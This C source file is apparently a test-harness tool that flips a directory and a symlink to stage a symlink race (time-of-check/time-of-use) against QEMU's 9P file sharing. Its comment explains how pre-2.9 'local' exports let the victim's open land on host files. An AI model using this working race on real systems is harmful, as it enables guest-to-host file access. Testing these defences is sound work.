/* race DIR TARGET [FLIPS] — the symlink-race attacker of scenarios.md `race/swap-dir-for-symlink`:
 * flips DIR between the real directory and a symlink to TARGET, FLIPS times (default 100):
 *   directory → link: rename(DIR, DIR.real); symlink(TARGET, DIR)
 *   link → directory: unlink(DIR); rename(DIR.real, DIR)
 * An odd FLIPS leaves the symlink in place. Run it as the second actor between the victim's check
 * (a walk to DIR/file) and its use (the open): under `local` before QEMU 2.9 the use lands on
 * TARGET/file on the host; hardened local refuses (ENOTDIR), proxy resolves inside the export
 * (ENOENT). It must act outside the victim's QEMU (a host process or another VM): renames made
 * through the victim's own 9P session rewrite its fid paths and defeat the swap (scenarios.md).
 * Prints one line; exits 1 if a step failed. */
#include <stdlib.h>
#include <unistd.h>
#include "common.h"

int main(int argc, char **argv) {
  prog = "race";
  if (argc < 3) { fputs("usage: race DIR TARGET [FLIPS]\n", stderr); return 2; }
  const char *dir = argv[1], *target = argv[2];
  long want = argc > 3 ? strtol(argv[3], NULL, 10) : 100;
  char real[4096];
  snprintf(real, sizeof real, "%s.real", dir);
  long flips = 0;
  int is_link = 0;
  for (; flips < want; flips++) {
    if (!is_link) {
      if (rename(dir, real) != 0) { fprintf(stderr, "race: rename '%s' -> '%s': %s\n", dir, real, strerror(errno)); break; }
      if (symlink(target, dir) != 0) { fprintf(stderr, "race: symlink '%s' -> '%s': %s\n", dir, target, strerror(errno)); rename(real, dir); break; }
    } else {
      if (unlink(dir) != 0) { fprintf(stderr, "race: unlink '%s': %s\n", dir, strerror(errno)); break; }
      if (rename(real, dir) != 0) { fprintf(stderr, "race: rename '%s' -> '%s': %s\n", real, dir, strerror(errno)); break; }
    }
    is_link = !is_link;
  }
  printf("race: %ld flips; %s is now %s%s\n", flips, dir, is_link ? "a symlink to " : "a directory", is_link ? target : "");
  return flips == want ? 0 : 1;
}
